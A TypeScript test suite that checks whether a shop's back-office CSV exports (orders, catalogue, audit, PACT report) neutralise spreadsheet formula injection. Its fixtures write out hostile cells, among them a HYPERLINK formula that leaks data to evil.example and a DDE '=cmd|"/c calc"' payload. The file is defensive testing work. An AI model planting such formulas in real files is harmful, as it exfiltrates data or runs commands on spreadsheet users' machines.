import { randomBytes } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { spreadsheetCsvText } from '../../api/src/common/spreadsheet-csv';
import type { Actor } from '../../api/src/modules/audit/audit.service';
import { OrderStatus } from '../../api/src/modules/orders/order-status.type';
import { StaffRole } from '../../api/src/modules/staff/permission.type';
import { AddToCartDocument, PlaceOrderDocument } from '../../web/src/graphql/__generated__/graphql';
import { signUpCustomer } from '../support/accounts';
import { createdProduct } from '../support/admin-catalogue';
import { ARIZONA } from '../support/addresses';
import { type FixtureProduct, findProduct } from '../support/catalog-fixtures';
import { GraphQLClient } from '../support/graphql-client';
import { payInFull } from '../support/payments';
import { type SignedInStaff, signedInStaff } from '../support/staff';
import { useSuiteApp } from '../support/suite-app';

const suite = useSuiteApp();
const COMMAND_LINE: Actor = { staffId: null, email: null, role: null, clientIp: 'command line' };
let owner: SignedInStaff;
let disposable: FixtureProduct;

beforeAll(async () => {
  owner = await signedInStaff(suite.testApp.app, StaffRole.OWNER);
  disposable = await findProduct(suite.testApp.app.database.url, `p.ends_kind = 'disposable' AND p.stock > 10`);
});

/** A back-office CSV as a spreadsheet reads it: its rows by column, each cell as written. */
async function downloaded(path: string): Promise<Record<string, string>[]> {
  const answer = await fetch(`${suite.testApp.url}/admin-api/export/${path}`, { headers: owner.client.identity() });
  expect(answer.status).toBe(200);
  return parse(await answer.text(), { columns: true });
}

/** A cell a spreadsheet shows as text: the formula behind the single quote that marks it so. */
const asText = (value: string) => `'${value}`;

/** A customer with this first name places an order of `product` shipped to `firstName` in `state`. */
async function placedBy(
  customerFirstName: string,
  shipTo: { firstName: string; state?: string; city?: string; zipcode?: string },
  product: FixtureProduct,
) {
  const shop = new GraphQLClient(suite.testApp.url);
  const { email } = await signUpCustomer(shop, suite.testApp.app.database.url, { firstName: customerFirstName });
  await shop.data(AddToCartDocument, { productId: product.id, quantity: 1 });
  const placed = await shop.data(PlaceOrderDocument, {
    input: { idempotencyKey: randomBytes(8).toString('hex'), address: { ...ARIZONA, ...shipTo } },
  });
  if (placed.placeOrder.__typename !== 'OrderPlaced') throw new Error(`not placed: ${JSON.stringify(placed)}`);
  return { email, number: placed.placeOrder.order.orderNumber };
}

describe('every CSV the back office writes', () => {
  it('writes a customer named =HYPERLINK(…) and a hostile ship-to name into the orders CSV as text', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const { email, number } = await placedBy(hyperlink, { firstName: '@SUM(1+1)' }, disposable);
    const [row, ...others] = await downloaded(`orders.csv?text=${encodeURIComponent(email)}`);
    expect(others).toEqual([]);
    expect(row).toMatchObject({
      orderNumber: number,
      customerName: asText(`${hyperlink} Lovelace`),
      shipToName: asText('@SUM(1+1) Lovelace'),
      customerEmail: email,
    });
  }, 30_000);

  it('writes a product named +SUM(…) into the catalogue CSV as text, and its numbers as numbers', async () => {
    const name = `+SUM(1,2) ${randomBytes(3).toString('hex')}`;
    const { product } = await createdProduct(owner.client, { name, nicotineMg: 0 });
    const row = (await downloaded('products.csv')).find((r) => r.id === product.id)!;
    expect(row.name).toBe(asText(name));
    expect(row).toMatchObject({ priceCents: '1999', nicotineMg: '0' });
  });

  it('writes a hostile audit record into the audit CSV as text', async () => {
    const { sql, audit } = suite.testApp.app.services;
    const actor = { ...COMMAND_LINE, email: '-2+3@staff.example.com', clientIp: '\t=1+1' };
    await sql.transaction(() =>
      audit.record(actor, {
        operation: 'test.hostile-cells',
        recordType: 'product',
        recordId: '=HYPERLINK("http://evil.example","x")',
        before: -5,
        after: '@cmd',
      }),
    );
    const rows = await downloaded('audit.csv?operation=test.hostile-cells');
    expect(rows).toEqual([
      expect.objectContaining({
        staffEmail: asText('-2+3@staff.example.com'),
        clientIp: asText('\t=1+1'),
        recordId: asText('=HYPERLINK("http://evil.example","x")'),
        before: asText('-5'),
        after: '"@cmd"',
      }),
    ]);
  });

  it('writes a hostile recipient into the PACT report CSV as text', async () => {
    const courier = await suite.testApp.app.services.carriers.add(COMMAND_LINE, {
      name: 'Spreadsheet Test Courier',
      address: '1 Depot Road, Harrisburg, PA 17101',
      telephone: '717-555-0199',
      adultSignatureId: true,
      trackingUrlPattern: 'https://courier.example.com/track/{number}',
    });
    const shipTo = { firstName: '+1-1', state: 'PA', city: 'Erie', zipcode: '16501' };
    const { number } = await placedBy('Ada', shipTo, disposable);
    await suite.testApp.app.services.orders.setStatus(number, OrderStatus.APPROVED);
    await payInFull(suite.testApp.app.services, number);
    await suite.testApp.app.services.orders.setStatus(number, OrderStatus.SHIPPED, {
      carrier: courier.name,
      trackingNumber: 'TRK1X99',
    });
    const month = new Date().toISOString().slice(0, 7);
    const rows = await downloaded(`pact-report.csv?state=PA&month=${month}`);
    expect(rows.find((r) => r.orderNumber === number)?.recipientName).toBe(asText('+1-1 Lovelace'));
  }, 30_000);

  it.each([
    ['orders.csv?from=0000-01-01', /"0000-01-01" is not a date/],
    ['audit.csv?to=0000-12-31', /"0000-12-31" is not a date/],
    ['pact-report.csv?state=PA&month=0000-01', /"0000-01" is not a month/],
  ])('refuses a day of the year 0000, which PostgreSQL has not, in words (%s)', async (path, message) => {
    const answer = await fetch(`${suite.testApp.url}/admin-api/export/${path}`, { headers: owner.client.identity() });
    expect(answer.status).toBe(400);
    expect(await answer.json()).toEqual({ error: expect.stringMatching(message) });
  });

  it('writes the command line’s CSV (the PACT report on standard output) through the same stringifier', () => {
    const text = spreadsheetCsvText(
      [{ recipientName: '=cmd|"/c calc"!A1', quantity: -1 }],
      ['recipientName', 'quantity'],
    );
    expect(parse(text, { columns: true })).toEqual([{ recipientName: asText('=cmd|"/c calc"!A1'), quantity: '-1' }]);
  });
});
